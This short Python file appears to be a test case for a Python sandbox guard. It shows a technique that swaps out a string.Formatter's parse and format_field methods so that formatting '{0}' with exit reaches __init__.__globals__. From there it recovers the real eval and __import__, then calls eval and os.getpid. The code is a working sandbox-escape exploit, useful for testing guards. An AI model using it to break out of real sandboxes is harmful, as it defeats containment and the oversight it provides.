# technique: string.Formatter instance with format_field replaced keeps the resolved object instead of its text; its replaced parse makes the field exit.__init__.__globals__, so the real module globals dict comes back -> real eval
# configs: default, common
# With nothing allowed `import string` is refused; with string allowed the template the guard
# sees is '{0}'.
import string
u = '_' * 2
kept = []
formatter = string.Formatter()
field = '0.' + u + 'init' + u + '.' + u + 'globals' + u
formatter.parse = lambda template: [('', field, '', None)] if template else []
formatter.format_field = lambda value, spec: kept.append(value) or ''
formatter.format('{0}', exit)
real_builtins = kept[0][u + 'builtins' + u]
real_eval = real_builtins['eval']
real_import = real_builtins[u + 'import' + u]
return [{'json': {'escaped': [real_eval('6 * 7'), real_import('os').getpid()]}}]
